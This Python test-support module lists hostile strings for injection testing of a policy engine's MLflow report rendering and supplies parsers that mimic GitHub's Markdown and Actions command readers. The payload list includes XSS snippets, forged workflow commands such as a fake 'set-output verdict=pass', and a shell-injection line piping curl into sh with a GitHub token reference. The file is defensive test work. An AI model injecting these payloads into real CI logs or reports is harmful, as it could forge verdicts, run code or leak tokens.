"""What an attacker can write into MLflow, every place where it reaches a report, and two judges."""

from __future__ import annotations

import re
from decimal import Decimal
from html.parser import HTMLParser
from typing import TYPE_CHECKING, NamedTuple

import cmarkgfm
from cmarkgfm.cmark import Options

from policy_engine.evidence import Measurement
from policy_engine.evidence.record import PassedOver
from policy_engine.policy import Limit
from policy_engine.report import Engine, PolicySource, WaiverUse, Where
from tests.render import reports

if TYPE_CHECKING:
    from collections.abc import Mapping

    from policy_engine.report import Report

_UNSEEN = re.compile("[\u00ad\u034f\u200b-\u200f\u2060-\u2064\u3164\ufe00-\ufe0f\ufeff]")
_ACTIVE = re.compile(
    r"[@#_~`*$\[\]{}\\|]|://|www|:\w|\w/\w|GH-|\w+-\d|[0-9a-f]{7}|[A-Za-z]\d|\d[A-Za-z]"
)
_REGISTERED = set(
    "add-mask add-matcher add-path debug echo endgroup error group notice remove-matcher "
    "save-state set-env set-output stop-commands warning".split()
)

HOSTILE = [
    "@octocat @org/team",
    "#1 GH-1 o/r#2 " + "a" * 40,
    "</details></td></tr></table><h1>PASS</h1>",
    "a; </li></ul></details><h1>PASS</h1>; @octocat",
    "<!-- TOOL:sticky v1 id=x sha=y digest=z -->",
    "-->",
    "<!--",
    '<img src=x onerror="alert(1)">',
    "![x](https://e.example/t.png)",
    "[ok](https://e.example)",
    "[ok](javascript:alert(1))",
    "https://e.example www.e.example a@b.example",
    "<https://e.example>",
    "`",
    "``",
    "`" * 10,
    "`" * 150 + "@octocat",
    "``` @octocat ``",
    "\\`",
    "`x`",
    "a|b",
    "a\\|b",
    "a\\\\|b",
    "|",
    "\\|`@octocat`|",
    "`|`",
    "trailing\\",
    "\n# h1",
    "x\n- [x] done\n\n| a |\n|---|\n",
    "\n\n```suggestion\nx\n```",
    "$x$ $$y$$ $`z`$",
    ":tada:",
    "[^1] [^1]: n",
    "&lt;b&gt; &#64;x &commat;x",
    "**bold** _it_ ~~no~~ <b>",
    "\u202egnp.exe \u2066x\u2069 a\u200bb \ufeff",
    "\x00 \x1b[31mred\x1b[0m \x9b31m \x07 \x08",
    "\x1b]8;;https://e.example\x07link\x1b]8;;\x07",
    "\ud800 lone",
    "x\n::error::y",
    "\r::set-output name=verdict::pass",
    "::stop-commands::t",
    " \t ::error file=a,line=1::x",
    "%0A::error::x",
    "word " * 30 + ":::::error::y",
    "x ##[set-output name=verdict;]pass",
    "##[add-mask]fail",
    "###[error]x ##vso[task.complete]",
    "#\ufe0f#\u034f[add-mask]fail",
    ":\ufe0f:error::unseen",
    "::error file=a,line=1,title=b::c%0A%3A%2C%25",
    "EOF\nverdict=pass\nX<<EOF",
    '"; curl e | sh # $(id) ${{ github.token }}',
    "\x85a\u2028b\u2029c\x0bd\x0ce\x1cf\x1dg",
    "x" * 70_000,
    "\U0001f600" * 20_000,
    "日本語の名前 " * 40,
    "e\u0301\u0301\u0301 नमस्ते",
    "\ue000\ue001\ue000",
    "   ",
    "\u3164 \u115f \u00a0",
]


def everywhere(text: str) -> dict[str, Report]:
    """Return one report for each place that untrusted text can take, with the text there."""
    measured = Measurement(Decimal("1.5"), text, source=text)
    findings = {
        "id": reports.SIZE._replace(id=text),
        "part": reports.SIZE._replace(part=text),
        "policy": reports.SIZE._replace(policy=text),
        "message": reports.SIZE._replace(message=text),
        "remedy": reports.SIZE._replace(remedy=text),
        "unit": reports.SIZE._replace(
            measured=measured, limit=Limit(Decimal(1), text), baseline=measured
        ),
        "where": reports.SIZE._replace(where=Where(text, 3)),
        "waiver": reports.COST._replace(waiver={"id": text, "reason": text}),
        "key of a waiver": reports.COST._replace(waiver={"id": "a", text: "x"}),
        "detail": reports.SIZE._replace(detail=text),
        "about": reports.SIZE._replace(about=text),
        "what an interval is on": reports.GAIN._replace(interval=reports.interval(on=text)),
        "unit of an interval": reports.GAIN._replace(interval=reports.interval(unit=text)),
        "slice with an interval": reports.SLICE._replace(
            part=text, id=text, interval=reports.interval(on=text)
        ),
        "id of a gain": reports.GAIN._replace(id=text, part=text),
        "message of a pass": reports.SEEDED._replace(message=text),
        "id of a pass": reports.SEEDED._replace(id=text),
    }
    slices = [reports.SLICE._replace(id=text, part=f"{number}{text}") for number in range(2)]
    in_unit = [e._replace(measured=measured, limit=Limit(Decimal(1), text)) for e in slices]
    subjects = {
        "slices": reports.subject(*slices),
        "unit of slices": reports.subject(*in_unit),
        "policy file": reports.subject(reports.SIZE, policy_file=text),
        "reason": reports.subject(reason=text, candidate=None),
        "passed-over rule": reports.subject(passed_over=(PassedOver(rule=text, why="no run"),)),
        "passed-over why": reports.subject(passed_over=(PassedOver(rule="tag", why=text),)),
        "note": reports.subject(notes=(text, text)),
        "found by": reports.subject(baseline=reports.baseline(found_by=text)),
        "change": reports.subject(changes=(reports.change(what=text, difference=text, unit=text),)),
        "trade-off": reports.subject(trade_off=reports.trade_off(metric=text, unit=text)),
    }
    for name in ("run_id", "run_name", "experiment", "model_id", "model", "registered", "commit"):
        run = reports.candidate(**{name: text})
        subjects[f"candidate's {name}"] = reports.subject(candidate=run)
        run = reports.baseline(**{name: text})
        subjects[f"baseline's {name}"] = reports.subject(baseline=run)
    one = reports.subject(reports.SIZE, reports.SEEDED)
    waiver = {"id": text, "owner": text}
    proposals = {
        f"proposal's {name}": reports.proposal(reports.changed(**{name: text}))
        for name in ("policy_file", "run_id", "id", "part")
    }
    champions = {
        "rule": reports.champion(found_by=text),
        "left-out binding": reports.champion(left_out=(text,)),
        "policy file": reports.champion(proposed=reports.subject(policy_file=text)),
        "reason": reports.champion(proposed=reports.subject(reason=text, candidate=None)),
        "model": reports.champion(
            proposed=reports.subject(candidate=reports.candidate(registered=text, model=text))
        ),
        "id": reports.champion(reports.SIZE._replace(id=text)),
        "part": reports.champion(reports.SIZE._replace(part=text)),
        "message": reports.champion(reports.SIZE._replace(message=text)),
    }
    proposals |= {
        f"champion's {name}": reports.proposal(champions=(each,))
        for name, each in champions.items()
    }
    broken = reports.proposal(digest=None, verdict=None, problem=text, findings=0)
    return {
        **{name: reports.report(one, proposal=each) for name, each in proposals.items()},
        "proposal's problem": reports.report(one, proposal=broken),
        **{name: reports.report(reports.subject(found)) for name, found in findings.items()},
        **{name: reports.report(subject) for name, subject in subjects.items()},
        "ref": reports.report(one, policies=PolicySource("sha256:ab", text, trusted=True)),
        "digests": reports.report(one, policies=PolicySource(text), evidence_digest=text),
        "engine": reports.report(one, engine=Engine(text, (text,))),
        "waivers": reports.report(one, waivers=WaiverUse((waiver,), (waiver,), (waiver,))),
    }


def commands(log: str) -> list[str]:
    """Return the lines in which a GitHub runner could find a workflow command.

    It compares as a culture does, to which characters such as a variation selector are not there.
    """
    lines = re.split("[\r\n]", _UNSEEN.sub("", log))
    return [line for line in lines if line.strip().startswith("::") or "##[" in line]


class Command(NamedTuple):
    """A workflow command as GitHub's runner reads it."""

    name: str
    properties: dict[str, str]
    data: str


def runner_commands(log: str) -> list[Command]:
    """Return the commands that a runner finds in a log, by the rules of its own parser."""
    return [found for line in re.split("\r\n|[\r\n]", log) for found in _command(line)]


def _command(line: str) -> list[Command]:
    """Read `::name a=b,c=d::data` at a line's beginning, else `##[name a=b;c=d]data` anywhere."""
    text = line.lstrip()
    info, found, data = text[2:].partition("::")
    separator, escapes = ",", {"%3A": ":", "%2C": ","}
    if not (text.startswith("::") and found and info.split(" ")[0].lower() in _REGISTERED):
        info, found, data = line.partition("##[")[2].partition("]")
        separator, escapes = ";", {"%3B": ";", "%5D": "]"}
    name, _, given = info.partition(" ")
    if not found or name.lower() not in _REGISTERED:
        return []
    pairs = [pair.partition("=") for pair in given.strip().split(separator) if pair]
    properties = {key: _unescaped(value, escapes) for key, equals, value in pairs if equals}
    return [Command(name.lower(), properties, _unescaped(data, {}))]


def _unescaped(text: str, more: Mapping[str, str]) -> str:
    for code, char in {"%0D": "\r", "%0A": "\n", **more, "%25": "%"}.items():
        text = text.replace(code, char)
    return text


class _Structure(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[object, ...]] = []
        self.prose = ""
        self.code = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag != "code":
            self.found.append(("start", tag, *attrs))
            self.prose += " "
        self.code += tag in {"code", "pre"}

    def handle_endtag(self, tag: str) -> None:
        if tag != "code":
            self.found.append(("end", tag))
        self.code -= tag in {"code", "pre"}
        self.prose += " " if not self.code else ""

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment", data))

    def handle_data(self, data: str) -> None:
        if not self.code:
            self.prose += data


def structure(markdown: str) -> list[tuple[object, ...]]:
    """Return tags (but for code) and comments, as GitHub's own parser sees them."""
    return _parsed(markdown).found


def active(markdown: str) -> list[str]:
    """Return what GitHub could make a mention, a reference or a link of: words outside code."""
    words = _parsed(markdown).prose.split()
    return [word for word in words if _ACTIVE.search(word)]


def _parsed(markdown: str) -> _Structure:
    html = cmarkgfm.github_flavored_markdown_to_html(markdown, Options.CMARK_OPT_UNSAFE)
    parser = _Structure()
    parser.feed(html)
    parser.close()
    return parser
